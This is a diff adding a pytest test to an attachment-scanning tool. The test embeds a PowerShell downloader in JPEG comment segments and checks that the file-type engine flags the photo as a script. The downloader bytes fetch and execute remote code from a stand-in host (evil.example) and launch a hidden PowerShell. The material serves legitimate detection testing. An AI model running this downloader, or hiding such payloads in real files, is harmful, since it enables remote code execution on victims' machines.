@@ -4,15 +4,19 @@ together give, and Magika not asked. Photos are always asked about (below)."""
 
 from __future__ import annotations
 
+import io
 import struct
 import zlib
 from typing import Any
 
 import pytest
+from PIL import Image
 
 from attachguard import samples
+from attachguard.engines.base import Item
 from attachguard.engines.filetype import FileTypeEngine
 from attachguard.engines.filetype_structure import for_magika, structure
+from attachguard.policy import Policy
 from support.oletools_data import ole_file
 
 
@@ -98,3 +102,29 @@ def test_forget_drops_the_remembered_answers() -> None:
     engine.forget()
     assert len(remembered._answers) == 0
     assert engine.detect(data).label == label and len(remembered._answers) == 1
+
+
+# A red team's photo that the shortcut approved: a decodable 16x16 JPEG with a PowerShell
+# downloader (text only, never run) in a comment segment at each end, padded to fill the
+# first and last KiB the model reads.
+_DOWNLOADER = (
+    b"$wc = New-Object System.Net.WebClient\n$u = 'https://evil.example/a.ps1'\n"
+    b"Invoke-Expression ($wc.DownloadString($u))\n"
+    b"Start-Process -WindowStyle Hidden powershell.exe -ArgumentList '-nop','-c','iex $x'\n"
+) * 4
+
+
+def test_a_script_at_both_ends_of_a_photo_is_read_by_the_model(
+    magika: FileTypeEngine, policy: Policy
+) -> None:
+    comment = _DOWNLOADER + b"\n<!-- " + b"x" * 460 + b" -->\n"
+    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
+    picture = io.BytesIO()
+    Image.new("RGB", (16, 16), (200, 30, 30)).save(picture, "JPEG", quality=90)
+    photo = picture.getvalue()
+    data = photo[:2] + segment + photo[2:-2] + segment + photo[-2:]
+    Image.open(io.BytesIO(data)).load()  # a photo any viewer opens
+    item = Item("photo.jpg", data, magika.detect(data), 0)
+    assert item.type.label == "powershell"
+    findings = magika.scan(item, policy.context()).findings
+    assert [f.code.name for f in findings] == ["SCRIPT"]
